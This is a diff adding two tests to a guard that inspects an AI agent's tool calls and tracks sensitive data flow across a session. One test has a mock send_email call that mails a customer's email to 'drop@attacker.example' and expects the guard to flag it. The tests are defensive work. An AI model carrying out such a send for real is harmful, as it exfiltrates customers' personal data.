@@ -143,4 +143,49 @@ describe("guard with classification and flow tracking", () => {
     expect(verdict.decision).toBe("allow");
     await guard.close();
   });
+
+  it("answers a result before remembering its values, and the session's next call still sees them", async () => {
+    const store = createMemoryFlowStore();
+    let remembered = 0;
+    const counting = {
+      ...store,
+      remember(...args: Parameters<typeof store.remember>) {
+        remembered++;
+        store.remember(...args);
+      },
+    };
+    const { guard } = await supportGuard({ flowStore: counting });
+    expect((await readCustomer(guard)).decision).toBe("allow");
+    // The answer is back; the hashing happens after the caller has sent it on.
+    expect(remembered).toBe(0);
+    const verdict = await guard.beforeCall({ server: "mail", tool: "send_email", args: { to: "drop@attacker.example", body: CUSTOMER.email }, sessionId: "s1" });
+    expect(remembered).toBe(1);
+    expect(verdict.policyIds).toContain("flow-to-egress-outside-allow");
+    await guard.close();
+  });
+
+  it("denies every later call of a session whose flow memory could not be written, until the session ends", async () => {
+    const store = createMemoryFlowStore();
+    const failing = {
+      ...store,
+      remember(...args: Parameters<typeof store.remember>) {
+        if (args[0] === "s1") throw new Error("store unreachable");
+        store.remember(...args);
+      },
+    };
+    const { guard, sink } = await supportGuard({ flowStore: failing });
+    expect((await readCustomer(guard, "s1")).decision).toBe("allow");
+    const lookup = { server: "crm", tool: "get_customer", args: { id: 8 } };
+    for (let i = 0; i < 2; i++) {
+      const verdict = await guard.beforeCall({ ...lookup, sessionId: "s1" });
+      expect(verdict.decision).toBe("deny");
+      expect("message" in verdict && verdict.message).toMatch(/flow memory of an earlier result .* store unreachable/);
+      expect(sink.records.at(-1)!.errors.join(" ")).toContain("store unreachable");
+    }
+    // Other sessions are not affected; the failed one starts clean once ended.
+    expect((await guard.beforeCall({ ...lookup, sessionId: "s2" })).decision).toBe("allow");
+    await guard.endSession("s1");
+    expect((await guard.beforeCall({ ...lookup, sessionId: "s1" })).decision).toBe("allow");
+    await guard.close();
+  });
 });
